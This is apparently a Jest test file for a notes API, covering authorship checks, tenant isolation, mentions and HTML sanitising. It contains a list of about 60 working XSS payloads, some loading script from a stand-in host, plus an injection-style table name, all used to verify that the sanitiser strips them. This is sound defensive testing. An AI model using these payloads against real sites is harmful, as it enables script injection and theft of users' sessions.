import type { Note } from '@platform/shared/contracts';
import { bearer, body, describeEachDatabase, login } from '../../testing/create-test-app';
import { NOTE_TAGS, sanitizeNote } from './sanitize';

/** Script tags, event handlers, javascript: URLs, SVG, CSS expressions and mutation XSS. */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<script type="module">import("//evil.test")</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<IMG SRC=javascript:alert(1)>',
  '<body onload=alert(1)>',
  '<b onclick="alert(1)">bold</b>',
  '<p onmouseover=alert(1)>hover</p>',
  '<div onfocus=alert(1) tabindex=0 autofocus>x</div>',
  '<span onpointerenter=alert(1)>x</span>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">link</a>',
  '<a href="JaVaScRiPt:alert(1)">link</a>',
  '<a href="jav&#x09;ascript:alert(1)">link</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">link</a>',
  '<a href=" javascript:alert(1)">link</a>',
  '<a href="vbscript:msgbox(1)">link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
  '<a href="//evil.test">protocol relative</a>',
  '<a href="https://ok.test" onclick="alert(1)">ok</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<div style="background:url(javascript:alert(1))">css</div>',
  '<div style="width: expression(alert(1))">css</div>',
  '<span style="behavior:url(x.htc)">css</span>',
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p>ok</p><img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<span class="mention x" data-user-id="1 onmouseover=alert(1)">@x</span>',
  '<a href="https://ok.test" target="_self" rel="opener">opener</a>',
  '<isindex action=javascript:alert(1) type=image>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
];

/** Every tag of stored HTML is allowed, with no handler, style or script URL. */
function expectSafe(html: string): void {
  for (const [tag] of html.matchAll(/<[^>]*>/g)) {
    const name = /^<\/?\s*([a-zA-Z0-9-]+)/.exec(tag)?.[1]?.toLowerCase();
    expect(NOTE_TAGS).toContain(name);
    expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
    expect(tag).not.toMatch(/style\s*=/i);
    expect(tag).not.toMatch(/(javascript|vbscript|data)\s*:/i);
    expect(tag).not.toMatch(/href="\/\//);
  }
  expect(html).not.toMatch(/<\s*(script|svg|math|iframe|img|style|object|embed|form|input)/i);
  // Cleaning again changes nothing: a browser parses the stored HTML as the sanitiser did.
  expect(sanitizeNote(html)).toBe(html);
}

interface Row {
  id: number;
  [field: string]: unknown;
}

describeEachDatabase('notes: list, add, reply, edit, void, mentions, sanitising', (get) => {
  const tokens: Record<string, string> = {};
  let jobs: Row[];
  let acmeJob: Row;

  const call = async (who: string, method: 'GET' | 'POST', url: string, payload?: unknown) => {
    const response = await get().app.inject({
      method,
      url,
      headers: bearer(tokens[who]),
      payload: payload as object,
    });
    return { status: response.statusCode, ...body<unknown>(response) };
  };
  const listNotes = async (
    who: string,
    table: string,
    id: number | string,
    paging: Record<string, unknown> = {},
    showAudit = false,
  ) => {
    const query = new URLSearchParams({
      table,
      id: String(id),
      show_audit: String(showAudit),
      pagination_object: JSON.stringify({ page_number: 1, page_size: 10, ...paging }),
    });
    const answer = await call(who, 'GET', `/notes?${query.toString()}`);
    return answer as typeof answer & { data: Note[] };
  };
  const send = async (who: string, id: number | 'new', request: unknown) => {
    const answer = await call(who, 'POST', `/note/history/${id}/details`, {
      object_data: JSON.stringify(request),
    });
    return answer as typeof answer & { data: Note };
  };
  const counts = async () => {
    const db = get().ctx.db;
    const count = async (table: 'notes' | 'note_versions' | 'notifications') =>
      Number(
        (
          await db
            .selectFrom(table)
            .select((eb) => eb.fn.countAll<string>().as('n'))
            .executeTakeFirstOrThrow()
        ).n,
      );
    return {
      notes: await count('notes'),
      versions: await count('note_versions'),
      notifications: await count('notifications'),
    };
  };

  beforeAll(async () => {
    for (const email of [
      'admin@demo.test',
      'sales@demo.test',
      'measurer@demo.test',
      'dashboard@demo.test',
      'admin@acme.test',
    ]) {
      tokens[email] = await login(get().app, email);
    }
    jobs = await get()
      .ctx.db.selectFrom('records')
      .select('id')
      .where('organisation_id', '=', 1)
      .where('record_type', '=', 'jobs')
      .orderBy('id')
      .execute();
    const acme = await get()
      .ctx.db.insertInto('records')
      .values({ organisation_id: 2, record_type: 'jobs', data: JSON.stringify({ title: 'Acme' }) })
      .returning('id')
      .executeTakeFirstOrThrow();
    acmeJob = acme;
  });

  it('lists the seeded notes newest first with replies, the voided one and the total', async () => {
    const answer = await listNotes('admin@demo.test', 'jobs', jobs[0].id);
    expect(answer.status).toBe(200);
    expect(answer.info.pagination_object?.total_records).toBe(3);
    const [voided, withReply, first] = answer.data;
    expect(voided).toMatchObject({ text: '', type_id: 2, type_name: 'notes', can_edit: 0 });
    expect(voided.deleted_at).not.toBeNull();
    expect(withReply.user_name).toBe('Sam Sales');
    expect(withReply.user_replies).toEqual([
      expect.objectContaining({ name: 'Max Measurer', parent_id: withReply.id, user_id: 3 }),
    ]);
    expect(first).toMatchObject({ user_id: 1, can_edit: 1 });
    expect(new Date(first.date).getTime()).toBeLessThan(new Date(withReply.date).getTime());

    const oldest = await listNotes('admin@demo.test', 'jobs', jobs[0].id, {
      sort_direction: 'asc',
    });
    expect(oldest.data.map((note) => note.id)).toEqual([first.id, withReply.id, voided.id]);
    // can_edit is the caller's: the sales user wrote the second note.
    const sales = await listNotes('sales@demo.test', 'jobs', jobs[0].id);
    expect(sales.data.map((note) => note.can_edit)).toEqual([0, 1, 0]);
  });

  it("answers no notes for a new record ('new' or -1)", async () => {
    for (const id of ['new', -1]) {
      const answer = await listNotes('admin@demo.test', 'jobs', id);
      expect(answer.status).toBe(200);
      expect(answer.data).toEqual([]);
      expect(answer.info.pagination_object?.total_records).toBe(0);
    }
  });

  it('pages by 10: page 2 holds the rest, newest first', async () => {
    const job = jobs[3].id;
    for (let index = 1; index <= 12; index++) {
      get().clock.advance(60_000);
      const added = await send('admin@demo.test', 'new', {
        type: 'add',
        note: `<p>Note ${index}</p>`,
        table_name: 'jobs',
        table_id: job,
      });
      expect(added.status).toBe(200);
    }
    const first = await listNotes('admin@demo.test', 'jobs', job);
    expect(first.info.pagination_object?.total_records).toBe(12);
    expect(first.data).toHaveLength(10);
    expect(first.data[0].text).toBe('<p>Note 12</p>');
    const second = await listNotes('admin@demo.test', 'jobs', job, { page_number: 2 });
    expect(second.data.map((note) => note.text)).toEqual(['<p>Note 2</p>', '<p>Note 1</p>']);
  });

  it('adds a note and a reply, storing version 1 of each', async () => {
    const job = jobs[1].id;
    const added = await send('sales@demo.test', 'new', {
      type: 'add',
      note: '<p>Check the <b>hinges</b></p>',
      table_name: 'jobs',
      table_id: String(job),
    });
    expect(added.status).toBe(200);
    expect(added.info.message).toBe('Note added');
    expect(added.data).toMatchObject({
      text: '<p>Check the <b>hinges</b></p>',
      user_id: 2,
      can_edit: 1,
      type_id: 2,
    });
    const reply = await send('admin@demo.test', 'new', {
      type: 'reply',
      note: 'Done',
      parent_id: added.data.id,
    });
    expect(reply.status).toBe(200);
    expect(reply.info.message).toBe('Reply added');
    const listed = await listNotes('admin@demo.test', 'jobs', job);
    const parent = listed.data.find((note) => note.id === added.data.id)!;
    expect(parent.user_replies).toEqual([
      expect.objectContaining({ text: 'Done', name: 'Ada Administrator', parent_id: parent.id }),
    ]);
    const versions = await get()
      .ctx.db.selectFrom('note_versions')
      .select(['note_id', 'version', 'action', 'user_id'])
      .where('note_id', 'in', [added.data.id, reply.data.id])
      .orderBy('note_id')
      .execute();
    expect(versions).toEqual([
      { note_id: added.data.id, version: 1, action: 'add', user_id: 2 },
      { note_id: reply.data.id, version: 1, action: 'reply', user_id: 1 },
    ]);
  });

  it('lets only the author edit (403 otherwise) and keeps every version', async () => {
    const added = await send('sales@demo.test', 'new', {
      type: 'add',
      note: 'First words',
      table_name: 'jobs',
      table_id: jobs[1].id,
    });
    const before = await counts();
    const refused = await send('admin@demo.test', added.data.id, { type: 'edit', note: 'Hijack' });
    expect(refused.status).toBe(403);
    expect(refused.info.message).toBe('Only the author can edit this note.');
    expect(await counts()).toEqual(before);

    // 13:00 in Sydney, the demo organisation's zone.
    get().clock.set('2026-03-11T02:00:00.000Z');
    const edited = await send('sales@demo.test', added.data.id, {
      type: 'edit',
      note: 'Second words',
    });
    expect(edited.status).toBe(200);
    expect(edited.info.message).toBe('Note updated');
    expect(edited.data.text).toBe('Second words');
    const versions = await get()
      .ctx.db.selectFrom('note_versions')
      .select(['version', 'action', 'text'])
      .where('note_id', '=', added.data.id)
      .orderBy('version')
      .execute();
    expect(versions).toEqual([
      { version: 1, action: 'add', text: 'First words' },
      { version: 2, action: 'edit', text: 'Second words' },
    ]);
    const audit = await listNotes('sales@demo.test', 'jobs', jobs[1].id, {}, true);
    const shown = audit.data.find((note) => note.id === added.data.id)!;
    expect(shown.audit_change_log).toEqual(['Edited by Sam Sales on 11/03/2026, 01:00 pm']);
  });

  it('lets only the author void; a voided note is struck, cannot be edited and keeps its versions', async () => {
    const added = await send('sales@demo.test', 'new', {
      type: 'add',
      note: 'Wrong job',
      table_name: 'jobs',
      table_id: jobs[2].id,
    });
    const refused = await send('measurer@demo.test', added.data.id, { type: 'void', void: true });
    expect(refused.status).toBe(403);
    expect(refused.info.message).toBe('Only the author can void this note.');
    const voided = await send('sales@demo.test', added.data.id, { type: 'void', void: true });
    expect(voided.status).toBe(200);
    expect(voided.info.message).toBe('Note voided');
    expect(voided.data).toMatchObject({ text: '', can_edit: 0 });
    expect(voided.data.deleted_at).toBe(get().clock.now().toISOString());
    const before = await counts();
    expect(
      (await send('sales@demo.test', added.data.id, { type: 'edit', note: 'again' })).status,
    ).toBe(400);
    expect(
      (await send('sales@demo.test', added.data.id, { type: 'void', void: true })).status,
    ).toBe(400);
    expect(
      (await send('admin@demo.test', 'new', { type: 'reply', note: 'x', parent_id: added.data.id }))
        .status,
    ).toBe(400);
    expect(await counts()).toEqual(before);
    const versions = await get()
      .ctx.db.selectFrom('note_versions')
      .select(['action', 'text'])
      .where('note_id', '=', added.data.id)
      .orderBy('version')
      .execute();
    expect(versions).toEqual([
      { action: 'add', text: 'Wrong job' },
      { action: 'void', text: 'Wrong job' },
    ]);
  });

  it('refuses bad input with 400 and stores nothing', async () => {
    const job = jobs[1].id;
    const existing = (
      await send('admin@demo.test', 'new', {
        type: 'add',
        note: 'mine',
        table_name: 'jobs',
        table_id: job,
      })
    ).data.id;
    const before = await counts();
    const bad: Array<[number | 'new', unknown]> = [
      ['new', undefined],
      ['new', 'not json'],
      ['new', '[1,2]'],
      ['new', '"text"'],
      ['new', 42],
    ];
    for (const [id, objectData] of bad) {
      const answer = await call('admin@demo.test', 'POST', `/note/history/${id}/details`, {
        object_data: objectData,
      });
      expect(answer.status).toBe(400);
    }
    const badRequests: Array<[number | 'new', Record<string, unknown>]> = [
      ['new', { type: 'delete', note: 'x', table_name: 'jobs', table_id: job }],
      ['new', { note: 'x', table_name: 'jobs', table_id: job }],
      ['new', { type: 'add', note: '', table_name: 'jobs', table_id: job }],
      ['new', { type: 'add', note: '   <p> </p> ', table_name: 'jobs', table_id: job }],
      [
        'new',
        { type: 'add', note: '<script>alert(1)</script>', table_name: 'jobs', table_id: job },
      ],
      ['new', { type: 'add', note: 12, table_name: 'jobs', table_id: job }],
      ['new', { type: 'add', note: 'x'.repeat(50_001), table_name: 'jobs', table_id: job }],
      ['new', { type: 'add', note: 'x', table_name: 'Jobs; drop', table_id: job }],
      ['new', { type: 'add', note: 'x', table_name: 'jobs', table_id: 'abc' }],
      ['new', { type: 'add', note: 'x', table_name: 'jobs', table_id: -3 }],
      ['new', { type: 'add', note: 'x', table_name: 'jobs' }],
      ['new', { type: 'add', note: 'x', table_id: job }],
      ['new', { type: 'add', note: 'x', table_name: 'jobs', table_id: job, taggedUsers: 'x' }],
      ['new', { type: 'add', note: 'x', table_name: 'jobs', table_id: job, taggedUsers: [0] }],
      ['new', { type: 'add', note: 'x', table_name: 'jobs', table_id: job, tagged_user_id: 'a,b' }],
      ['new', { type: 'reply', note: 'x' }],
      ['new', { type: 'reply', note: 'x', parent_id: 'one' }],
      ['new', { type: 'edit', note: 'x' }],
      [existing, { type: 'add', note: 'x', table_name: 'jobs', table_id: job }],
      [existing, { type: 'edit', note: '' }],
    ];
    for (const [id, request] of badRequests) {
      const answer = await send('admin@demo.test', id, request);
      expect([id, request, answer.status]).toEqual([id, request, 400]);
    }
    const query = await call(
      'admin@demo.test',
      'GET',
      '/notes?table=jobs&id=abc&pagination_object=%7B%7D',
    );
    expect(query.status).toBe(400);
    expect(
      (
        await call(
          'admin@demo.test',
          'GET',
          `/notes?table=jobs&id=${job}&pagination_object=%7B%22page_size%22%3A1000%7D`,
        )
      ).status,
    ).toBe(400);
    expect(await counts()).toEqual(before);
  });

  it("keeps another organisation's notes invisible and unchangeable", async () => {
    const demoNote = (await listNotes('admin@demo.test', 'jobs', jobs[0].id)).data[2];
    expect((await listNotes('admin@acme.test', 'jobs', jobs[0].id)).status).toBe(404);
    const before = await counts();
    expect(
      (
        await send('admin@acme.test', 'new', {
          type: 'add',
          note: 'x',
          table_name: 'jobs',
          table_id: jobs[0].id,
        })
      ).status,
    ).toBe(404);
    expect(
      (await send('admin@acme.test', 'new', { type: 'reply', note: 'x', parent_id: demoNote.id }))
        .status,
    ).toBe(404);
    expect((await send('admin@acme.test', demoNote.id, { type: 'void' })).status).toBe(404);
    expect(await counts()).toEqual(before);
    // And the other way round: acme's own job is not the demo organisation's.
    const acmeNote = await send('admin@acme.test', 'new', {
      type: 'add',
      note: 'acme only',
      table_name: 'jobs',
      table_id: acmeJob.id,
    });
    expect(acmeNote.status).toBe(200);
    expect((await listNotes('admin@demo.test', 'jobs', acmeJob.id)).status).toBe(404);
    expect((await listNotes('admin@acme.test', 'jobs', acmeJob.id)).data).toHaveLength(1);
    // Dashboard screens read no notes.
    expect((await listNotes('dashboard@demo.test', 'jobs', jobs[0].id)).status).toBe(403);
    // An unknown table is no record.
    expect((await listNotes('admin@demo.test', 'nothing', jobs[0].id)).status).toBe(404);
  });

  it('notifies a mentioned user of the same organisation only, stored and pushed live', async () => {
    const published: Array<[number, string]> = [];
    const hub = get().ctx.hub;
    const publish = hub.publishToUser.bind(hub);
    const spy = jest.spyOn(hub, 'publishToUser').mockImplementation((userId, event, payload) => {
      published.push([userId, event]);
      return publish(userId, event, payload);
    });
    try {
      const before = await get()
        .ctx.db.selectFrom('notifications')
        .select('id')
        .where('user_id', 'in', [2, 11, 1])
        .execute();
      const added = await send('admin@demo.test', 'new', {
        type: 'add',
        note: 'Please check <span class="mention" data-user-id="2">@Sam Sales</span> <b>&lt;now&gt;</b>',
        table_name: 'jobs',
        table_id: jobs[0].id,
        taggedUsers: [2, 11, 1],
        tagged_user_id: '11',
      });
      expect(added.status).toBe(200);
      const rows = await get()
        .ctx.db.selectFrom('notifications')
        .select(['user_id', 'organisation_id', 'short_message', 'message', 'path'])
        .where('user_id', 'in', [2, 11, 1])
        .where('id', 'not in', before.length ? before.map((row) => row.id) : [0])
        .execute();
      expect(rows).toEqual([
        {
          user_id: 2,
          organisation_id: 1,
          short_message: 'Ada Administrator mentioned you in a note',
          message: expect.stringMatching(
            /^Ada Administrator mentioned you in a note on .+: Please check @Sam Sales &lt;now&gt;$/,
          ),
          path: `/jobs/${jobs[0].id}/note-history`,
        },
      ]);
      expect(published).toEqual([[2, 'notification.created']]);
      const stored = await get()
        .ctx.db.selectFrom('notes')
        .select('tagged_user_ids')
        .where('id', '=', added.data.id)
        .executeTakeFirstOrThrow();
      // The author may mention themselves (stored, not notified); acme's admin is dropped.
      expect(stored.tagged_user_ids).toEqual([2, 1]);

      // An edit notifies only users mentioned for the first time.
      published.length = 0;
      const edited = await send('admin@demo.test', added.data.id, {
        type: 'edit',
        note: 'Also <span class="mention" data-user-id="3">@Max Measurer</span>',
        taggedUsers: [2, 3],
      });
      expect(edited.status).toBe(200);
      expect(published).toEqual([[3, 'notification.created']]);
    } finally {
      spy.mockRestore();
    }
  });

  it(`stores ${XSS_PAYLOADS.length} XSS payloads only in their safe form`, async () => {
    expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(50);
    for (const payload of XSS_PAYLOADS) {
      const answer = await send('admin@demo.test', 'new', {
        type: 'add',
        note: `Hi ${payload}`,
        table_name: 'jobs',
        table_id: jobs[4].id,
      });
      expect(answer.status).toBe(200);
      const stored = await get()
        .ctx.db.selectFrom('notes')
        .select('text')
        .where('id', '=', answer.data.id)
        .executeTakeFirstOrThrow();
      expect(answer.data.text).toBe(stored.text);
      expectSafe(stored.text);
      const version = await get()
        .ctx.db.selectFrom('note_versions')
        .select('text')
        .where('note_id', '=', answer.data.id)
        .executeTakeFirstOrThrow();
      expectSafe(version.text);
    }
    // Harmless formatting and links survive.
    const kept = await send('admin@demo.test', 'new', {
      type: 'add',
      note: '<b onclick="x()">bold</b> <a href="https://example.test/a?b=1">link</a>',
      table_name: 'jobs',
      table_id: jobs[4].id,
    });
    expect(kept.data.text).toBe(
      '<b>bold</b> <a href="https://example.test/a?b=1" target="_blank" rel="noopener noreferrer">link</a>',
    );
  });

  it('shows the record change log as audit entries when asked', async () => {
    const job = jobs[5].id;
    get().clock.advance(60_000);
    const saved = await call('admin@demo.test', 'POST', `/records/jobs/${job}`, {
      object_data: JSON.stringify({ title: 'Audited title' }),
    });
    expect(saved.status).toBe(200);
    const without = await listNotes('admin@demo.test', 'jobs', job);
    expect(without.data.every((note) => note.type_id === 2)).toBe(true);
    const withAudit = await listNotes('admin@demo.test', 'jobs', job, {}, true);
    const [latest] = withAudit.data;
    expect(latest).toMatchObject({
      type_id: 1,
      type_name: 'audit',
      text: 'Job changed',
      can_edit: 0,
    });
    expect(latest.date).toBe(get().clock.now().toISOString());
    expect(latest.audit_change_log).toEqual([expect.stringMatching(/^Title: .+ → Audited title$/)]);
    expect(withAudit.info.pagination_object?.total_records).toBe(
      (without.info.pagination_object?.total_records ?? 0) + 1,
    );
  });
});
